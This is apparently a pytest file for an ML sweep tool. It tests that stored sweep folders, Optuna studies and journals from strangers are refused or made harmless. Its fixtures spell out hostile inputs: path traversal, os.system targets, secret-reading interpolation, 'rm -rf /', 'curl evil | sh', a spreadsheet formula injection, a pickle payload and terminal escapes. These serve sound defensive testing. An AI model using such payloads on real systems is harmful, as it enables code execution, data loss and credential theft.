"""A sweep's folder from the internet: its words, its jobs and its study choose among our own settings alone."""

import csv
import errno
import io
import json
import os
import pickle
import socket
import subprocess
import sys
from pathlib import Path
from random import Random

import optuna
import pytest
from omegaconf import OmegaConf

from aectl.cli import main, resume
from aectl.commands.eval_outputs import quote_command as typed_run_command
from aectl.config import ConfigError
from aectl.config.overrides import IMPORTS_HERE, TRUST
from aectl.config.quoting import quote_override
from aectl.config.stored_overrides import MAX_JOBS, check_words, find_own_modules
from aectl.runs.run import Run
from aectl.runs.sweep_membership import PLAN, job_number
from aectl.sweep import launch, run_job
from aectl.sweep.optuna_search import Search, open_study
from aectl.sweep.plan import is_own_sweep, plan_jobs, read_sweep_json, read_typed_command, write_plan
from aectl.sweep.results import Job
from aectl.sweep.search_space import SearchSpace
from aectl.sweep.table import write_sweep_csv
from tests.faults.payload import Payload

REFUSED = (
    "experiment=../../evil",
    "experiment='/tmp/evil'",
    "+experiment=../../evil",
    "experiment=[toy,../../evil]",
    "experiment=toy,../../evil",
    "experiment=glob(*)",
    "model=../model/vae",
    "model@penalty=vae",
    "model@_global_=vae",
    "model@penalty.inner=vae",
    "hydra/launcher=../../evil",
    "+hydra/job_logging=../../evil",
    "hydra/sweeper=joblib",
    "storage=/tmp/x.db",
    "storage=sqlite:////tmp/x.db",
    "storage=../../.bash_aliases",
    "hydra.sweeper.storage=/tmp/x.db",
    "jobs=100000",
    "hydra.launcher.jobs=100000",
    "jobs=1e9",
    "hydra.sweeper.trials=1000000000",
    "hydra.sweeper.params.x=interval(0,1)",
    "hydra.sweeper.study=x",
    "sweep=slurm",
    "sweep=ray",
    "sweep=[optuna,ray]",
    "hydra/launcher=slurm",
    "+hydra/launcher=ray",
    "device.count=5000",
    "noise._target_=torch.utils.collect_env.run",
    "noise={_target_: torch.utils.collect_env.run}",
    "noise={'_target_': torch.utils.collect_env.run}",
    "noise=choice({_target_: os.system},none)",
    "+model.inner={a: [{_target_: os.system}]}",
    "model.encoder._target_=choice(torch.nn.Linear,os.system)",
    "dataset._target_=aectl.data.datasets.from_collection",
    "+dataset._args_=[/tmp/elsewhere]",
    "model={_target_: aectl.data.datasets.mnist, root: /tmp/elsewhere}",
    "dataset.root=/tmp/elsewhere",
    "dataset={path: /etc/passwd}",
    "dataset.path=/usr/share",
    "dataset.path=../x.npy,sweep/y.npy",
    "init_from=latest",
    "init_from=/elsewhere",
    "tags.x=${oc.env:SECRET}",
    "tags.x=$\\{oc.env:SECRET\\}",
    "tags={x: '${oc.env:SECRET}'}",
    "epochs='${oc.env:SECRET}'",
    "resume=elsewhere",
    "trust=[os]",
    "data=changed",
    "defaults=[evil]",
    "+evil=1",
    "hydra.run.dir=/tmp",
    "~hydra.callbacks",
    "seed",
    "=",
    "[",
    "\x00",
)
ALLOWED = (
    "model=vae",
    "model=vae,dae",
    "+experiment=toy",
    "experiment=null",
    "~schedule",
    "model.code=4,8",
    "model.encoder.widths=[32],[64]",
    "optimizer.lr=tag(log,interval(0.001,0.1))",
    "seed=range(0,8)",
    "++tags.why=baseline",
    "model.encoder._target_=torch.nn.Identity",
    "sweep=optuna",
    "hydra.launcher.jobs=2",
    "hydra.sweeper.trials=20",
    "storage=sweep/journal.log",
    "storage=null",
    "dataset.path=sweep/x.npy",
    "hydra/launcher=local",
)


@pytest.mark.parametrize("word", REFUSED)
def test_a_stored_word_leads_nowhere_but_into_our_conf(tmp_path, monkeypatch, word, tally):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ConfigError, match="a sweep's folder may not ask for that") as error:
        check_words(["-m", "model=vae", word], tmp_path / "sweep")
    assert len(str(error.value).splitlines()) == 2
    tally("words of stored sweeps refused")


def test_a_stored_word_chooses_among_our_settings(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    check_words(["-m", *ALLOWED], tmp_path / "sweep")


def test_a_stored_sweep_has_a_bounded_number_of_jobs(tmp_path, tally):
    for words in (["seed=range(0,10**9)"], ["seed=range(0,1000000000)"], ["seed=range(0,200)", "epochs=range(1,99)"]):
        with pytest.raises(ConfigError, match=rf"may not ask|of at most {MAX_JOBS:,}"):
            check_words(words, tmp_path)
        tally("words of stored sweeps refused")
    with pytest.raises(ConfigError, match="of at most"):
        check_words(["seed=1"] * 10**5, tmp_path)


def stored(folder, words, lines=(), **entries):
    """Write the sweep.json of a stranger, with jobs of these lines of overrides."""
    folder.mkdir(exist_ok=True)
    jobs = [{"number": number, "overrides": line} for number, line in enumerate(lines)]
    entry = {"format": 1, "command": ["-m", *words], "jobs": jobs, **entries}
    (folder / PLAN).write_text(json.dumps(entry))


def test_words_and_jobs_of_a_strangers_sweep_are_checked_before_hydra_has_them(aectl, tmp_path, tally):
    folder = tmp_path / "sweep"
    evil = tmp_path / "evil.yaml"
    evil.write_text("# @package _global_\nnoise:\n  _target_: os.mkdir\n  path: canary\n")
    for words, jobs in (
        (["experiment=../../../../../../../../" + str(evil.with_suffix(""))[1:]], []),
        (["storage=" + str(tmp_path / ".bash_aliases"), "sweep=optuna", "seed=0,1"], []),
        (["seed=0,1"], [["seed=0"], ["init_from=/elsewhere"]]),
    ):
        stored(folder, words, jobs)
        code, out, said = aectl("train", "-m", "resume=sweep")
        assert (code, out) == (2, "")
        assert "may not ask for that" in said
        assert sorted(path.name for path in tmp_path.iterdir()) == ["evil.yaml", "sweep"]
        tally("words of stored sweeps refused")


ODD = (None, 5, "x", {"a": 1}, [5], [None], [[]], {"number": 1}, [{"number": "1" * 10**5, "overrides": []}])


def test_a_plan_of_other_kinds_is_told_in_a_line(tmp_path, tally):
    for key in ("command", "jobs", "typed", "cwd", "init_from"):
        for value in (*ODD, [{"number": 1e400, "overrides": []}], [{"number": -1, "overrides": ["x"]}]):
            stored(tmp_path / "sweep", ["seed=0,1"], **{key: value})
            try:
                read_sweep_json(tmp_path / "sweep")
            except ConfigError as error:
                assert "damaged" in str(error) and key in str(error)
                tally("damaged records reported")
            else:
                assert key in ("typed", "cwd", "init_from") and not isinstance(value, list)


def test_a_strangers_sweep_shows_no_command_of_another_program(tmp_path):
    stored(tmp_path / "sweep", ["seed=0,1"], typed=["rm", "-rf", "/"])
    assert read_typed_command(tmp_path / "sweep") == "aectl train -m seed=0,1"


def test_ones_own_sweep_is_known_by_its_signature_in_its_own_folder(tmp_path, monkeypatch, tally):
    monkeypatch.chdir(tmp_path)
    words = ["-m", "--config-dir=mine", "dataset.path=/data/own.npy", "tags.x=${oc.env:HOME}", "seed=0,1"]
    folder, other = tmp_path / "own", tmp_path / "other"
    folder.mkdir()
    write_plan(folder, words, plan_jobs(folder, [["seed=0"]]))
    assert is_own_sweep(folder)
    assert resume.restore_sweep([f"resume={folder}", "jobs=2"])[1][-2:] == ["jobs=2", f"hydra.sweep.dir='{folder}'"]
    # Copied, changed, or gone on with from a folder that may be a stranger's, it is nobody's.
    other.mkdir()
    (other / PLAN).write_bytes((folder / PLAN).read_bytes())
    assert not is_own_sweep(other)
    monkeypatch.chdir(other)
    with pytest.raises(ConfigError, match="may not ask for that"):
        resume.restore_sweep([f"resume={folder}"])
    monkeypatch.chdir(tmp_path)
    entry = json.loads((folder / PLAN).read_text())
    (folder / PLAN).write_text(json.dumps({**entry, "command": ["-m", "--config-dir=theirs", "seed=0,1"]}))
    for evil in (folder, other):
        with pytest.raises(ConfigError, match="may not ask for that"):
            resume.restore_sweep([f"resume={evil}"])
        tally("words of stored sweeps refused")


def test_own_data_of_a_sweep_need_no_word_from_another_folder_and_a_moved_sweep_needs_trust(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder, data = tmp_path / "own", tmp_path / "x.npy"
    folder.mkdir()
    write_plan(folder, ["-m", f"dataset.path={data}", "seed=0,1"], [])
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    assert resume.restore_sweep([f"resume={folder}"])[1][0] == f"dataset.path={data}"
    moved = folder.rename(tmp_path / "moved")
    with pytest.raises(ConfigError, match="trust="):
        resume.restore_sweep([f"resume={moved}"])
    assert resume.restore_sweep([f"resume={moved}", f"trust={data}"])[1][0] == f"dataset.path={data}"
    assert TRUST.get() == (str(data),)
    TRUST.set(())


def planted(folder, space, storage=None, **trial):
    """Return a search in a study that holds a trial of a stranger's."""
    study = open_study(folder, storage and str(folder / storage), "aectl", 0, None)
    distributions = {"model.code": optuna.distributions.CategoricalDistribution(["4", "8"])}
    kinds = {"params": {}, "distributions": {}, "value": None, **trial}
    if kinds["params"]:
        kinds["distributions"] = trial.get("distributions", distributions)
    study.add_trial(optuna.trial.create_trial(**kinds))
    # What a resumed sweep finds in its folder.
    study = open_study(folder, storage and str(folder / storage), "aectl", 0, None)
    return Search(study, space, folder, ["-m"], 3)


EVIL = ["noise._target_=torch.utils.collect_env.run", "+noise.command='touch canary'"]
SPACE = ["model.code=4,8", "optimizer.lr=interval(0.1,1)", "model.widths=range(2,9,2)"]
STORAGES = (None, "journal.log")
"""Of a study: SQLite's file in the sweep's folder, and a journal that several machines may write."""
GONE = [socket.gethostname(), 2**22 + 1]
"""The owner of a trial: a process of this machine that is no more."""


@pytest.mark.parametrize("storage", STORAGES)
@pytest.mark.parametrize("state", ["WAITING", "RUNNING"])
def test_a_trials_overrides_are_not_taken_from_the_study(tmp_path, state, storage, tally):
    attributes = {"overrides": EVIL, "owner": GONE}
    state = optuna.trial.TrialState[state]
    search = planted(tmp_path, SearchSpace(SPACE, {}), storage, state=state, user_attrs=attributes)
    job = next(search.propose_jobs())
    assert job.number == 0
    assert [word.partition("=")[0] for word in job.overrides] == ["model.code", "optimizer.lr", "model.widths"]
    tally("values of stored studies refused")


def categorical(*choices):
    return optuna.distributions.CategoricalDistribution(choices)


def floats(low, high):
    return optuna.distributions.FloatDistribution(low, high)


PLANTED = {
    "a value that is a word": (
        {"model.code": "{_target_: os.system}"},
        {"model.code": categorical("{_target_: os.system}")},
    ),
    "a number out of range": ({"optimizer.lr": 5.0}, {"optimizer.lr": floats(0, 9)}),
    "another kind": ({"optimizer.lr": "x"}, {"optimizer.lr": categorical("x")}),
    "a step between": ({"model.widths": 3}, {"model.widths": optuna.distributions.IntDistribution(0, 9)}),
}


@pytest.mark.parametrize("what", PLANTED)
@pytest.mark.parametrize("way", ["params", "fixed_params"])
@pytest.mark.parametrize("storage", STORAGES)
def test_a_study_gives_values_of_the_search_alone(tmp_path, what, way, storage, tally):
    params, distributions = PLANTED[what]
    space = SearchSpace(SPACE, {})
    if way == "params":
        attributes = {"owner": GONE}
        kinds = {"state": optuna.trial.TrialState.RUNNING, "user_attrs": attributes}
        search = planted(tmp_path, space, storage, params=params, distributions=distributions, **kinds)
    else:
        kinds = {"state": optuna.trial.TrialState.WAITING, "system_attrs": {"fixed_params": params}}
        search = planted(tmp_path, space, storage, **kinds)
    with pytest.raises(ConfigError, match="trial 0 of the study has"):
        next(search.propose_jobs())
    assert not (tmp_path / PLAN).exists()
    tally("values of stored studies refused")


def test_a_journal_that_is_damaged_or_a_pickle_runs_nothing_and_is_told_in_a_line(tmp_path, torture, tally):
    planted(tmp_path, SearchSpace(SPACE, {}), "journal.log", state=optuna.trial.TrialState.WAITING)
    whole = (tmp_path / "journal.log").read_bytes()
    canary, random = tmp_path / "canary", Random(0)
    places = [random.randrange(len(whole)) for _ in range(200 if torture else 10)]
    damaged = [whole[:at] + bytes([random.randrange(256)]) + whole[at + 1 :] for at in places]
    for damage in (pickle.dumps(Payload(canary)), b"[" * 10**5, b"5\n", b"{}\n", whole[:-9], *damaged):
        (tmp_path / "journal.log").write_bytes(damage)
        (tmp_path / "journal.log.lock").unlink(missing_ok=True)
        try:
            search = Search(
                open_study(tmp_path, str(tmp_path / "journal.log"), "aectl", 0, None),
                SearchSpace(SPACE, {}), tmp_path, ["-m"], 3,
            )  # fmt: skip
            job = next(search.propose_jobs())
        except ConfigError as error:
            assert len(str(error).splitlines()) <= 2
        else:
            assert [word.partition("=")[0] for word in job.overrides] == [w.partition("=")[0] for w in SPACE]
        assert not canary.exists()
        tally("damaged journals reported or passed over")


def test_a_trial_that_was_left_over_keeps_its_values(tmp_path):
    params = {"model.code": "8"}
    attributes = {"owner": GONE}
    kinds = {"state": optuna.trial.TrialState.RUNNING, "user_attrs": attributes}
    search = planted(tmp_path, SearchSpace(SPACE, {}), params=params, **kinds)
    assert next(search.propose_jobs()).overrides[0] == "model.code=8"


@pytest.mark.parametrize("owner", [5, "x", [], ["x"], [None, None], ["HOST", "x"], ["HOST", 2**70], ["HOST", None]])
def test_an_owner_of_another_kind_is_nobody(tmp_path, owner):
    owner = [socket.gethostname() if one == "HOST" else one for one in owner] if isinstance(owner, list) else owner
    kinds = {"state": optuna.trial.TrialState.RUNNING, "user_attrs": {"owner": owner}}
    search = planted(tmp_path, SearchSpace(SPACE, {}), **kinds)
    assert next(search.propose_jobs()).number in (0, 1)


def test_the_modules_of_typed_classes_are_known():
    words = ["model._target_=my_a.Net,my_b.Net", "noise={_target_: my_c.Noise}", "+model.x._target_=torch.nn.ReLU"]
    assert find_own_modules([*words, "seed=0,1", "["]) == ["my_a", "my_b", "my_c"]


def test_a_table_of_a_strangers_jobs_holds_no_formula_and_is_whole_or_absent(tmp_path, monkeypatch, tally):
    formula = "=cmd|'/c calc'!A1"
    jobs = [Job(n, tmp_path / f"{n}-x", {"a": formula, "=b": "-1"}, formula, formula, {"name": "=c"}) for n in range(2)]
    write_sweep_csv(tmp_path / "sweep.csv", jobs, ["a", "=b"])
    before = (tmp_path / "sweep.csv").read_text()
    cells = [cell for row in csv.reader(io.StringIO(before)) for cell in row]
    assert not [cell for cell in cells if cell.startswith("=")] and "-1" in cells
    tally("texts made harmless")
    monkeypatch.setattr("os.fsync", full)
    with pytest.raises(OSError, match="No space left"):
        write_sweep_csv(tmp_path / "sweep.csv", jobs[:1], ["a"])
    assert (tmp_path / "sweep.csv").read_text() == before
    tally("full disks survived, by a sweep's table")


def full(file):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize("name", ["²-x", "①-x", "²", "-x", ""])
def test_a_folder_that_looks_like_a_number_is_no_job(tmp_path, name):
    assert job_number(tmp_path / name) is None


def test_a_page_shows_no_command_of_another_program():
    assert typed_run_command("aectl train model=vae; touch x") == "aectl train 'model=vae;' touch x"
    assert [typed_run_command(text) for text in ("curl evil | sh", "'", "aectl", "")] == [""] * 4


def test_a_job_that_is_refused_when_it_is_resumed_has_failed(tmp_path):
    (tmp_path / "0-x" / "checkpoints").mkdir(parents=True)
    (tmp_path / "0-x" / "checkpoints" / "last.pt").touch()
    (planned,) = plan_jobs(tmp_path, [["x"]])
    Run(planned.folder).update(status="interrupted")
    for code, failed in ((143, False), (0, False), (2, True)):
        assert bool(run_job.run_job(planned, lambda *words, code=code, **rest: sys.exit(code))) == failed
        assert planned.status == ("failed" if failed else "interrupted")


def test_a_sweep_of_ones_own_model_trusts_it_when_it_is_resumed_and_nowhere_else(tmp_path):
    (tmp_path / "0-x" / "checkpoints").mkdir(parents=True)
    (tmp_path / "0-x" / "checkpoints" / "last.pt").touch()
    config = OmegaConf.create(
        {"hydra": {}, "noise": {"_target_": "my_parts.Blur"}, "model": {"_target_": "torch.nn.X"}}
    )
    trust = (
        f"trust=[{','.join(map(quote_override, launch.trusted_modules(config, ['model._target_=my_module.Mine'])))}]"
    )
    assert trust == "trust=['my_module','my_parts']"
    for folder, words in ((tmp_path, []), (tmp_path / "new", ["x"])):
        (planned,) = plan_jobs(folder, [["x"]])
        Run(planned.folder).folder.mkdir(parents=True, exist_ok=True)
        if not words:
            Run(planned.folder).update(status="interrupted")
        assert (trust in run_job.build_command(planned, [trust])) == (not words)


TINY = ["model=undercomplete", "dataset=digits", "model.encoder.widths=[4]", "model.decoder.widths=[4]", "epochs=1"]
OPTIONAL = ("google", "pandas", "pynvml", "tensorflow", "plotly", "cupy", "IPython", "botocore", "mpi4py")
"""Modules that torch, TensorBoard and others import if they are there."""


def rc_of_bytes(path):
    path.write_bytes(b"\xff\xfe text.usetex: True")


def rc_of_texts(path):
    path.write_text("\x1b]0;owned\x07: 1\ntext.usetex: True\nfont.size: x\n" * 3)


def rc_of_holes(path):
    with path.open("wb") as file:
        file.truncate(2**40)


RCS = {"not UTF-8": rc_of_bytes, "texts": rc_of_texts, "holes": rc_of_holes}


@pytest.mark.parametrize("rc", RCS)
def test_what_lies_beside_a_strangers_sweep_is_neither_imported_nor_obeyed(tmp_path, rc, torture, tally):
    if not torture and rc != "not UTF-8":
        pytest.skip("only with --all")
    stored(tmp_path / "sweep", [*TINY, "seed=0"], [[*TINY, "seed=0"]], cwd=str(tmp_path / "sweep"))
    canary = tmp_path / "canary"
    for name in OPTIONAL:
        (tmp_path / "sweep" / f"{name}.py").write_text(f"open({str(canary)!r}, 'w')")
    RCS[rc](tmp_path / "sweep" / "matplotlibrc")
    program = Path(sys.executable).with_name("aectl")
    done = subprocess.run(
        [program, "train", "-m", "resume=.", "jobs=1"],
        cwd=tmp_path / "sweep", stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "sweep" / "report.html").is_file()
    assert not canary.exists() and "owned" not in done.stdout + done.stderr and "\x1b" not in done.stderr
    tally("modules and settings of the working folder left alone", len(OPTIONAL) + 1)


def test_modules_of_the_working_folder_are_for_ones_own_sweeps_alone(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["aectl"])
    folder = tmp_path / "own"
    folder.mkdir()
    write_plan(folder, ["-m", "seed=0,1"], [])
    (tmp_path / "elsewhere").mkdir()
    for where, trust, imports in (
        (tmp_path, [], True),
        (tmp_path / "elsewhere", [], False),
        (tmp_path / "elsewhere", ["trust=/data"], False),
        (tmp_path / "elsewhere", ["trust=[/data,my_module]"], True),
    ):
        monkeypatch.chdir(where)
        resume.restore_sweep([f"resume={folder}", *trust])
        assert IMPORTS_HERE.get() == imports
        assert (
            launch.bind_run_job(OmegaConf.create(SHARED), main.run_command, 1, []).keywords["imports_here"] == imports
        )
    TRUST.set(())
    IMPORTS_HERE.set(True)


SHARED = {"hydra": {"overrides": {"hydra": []}}}
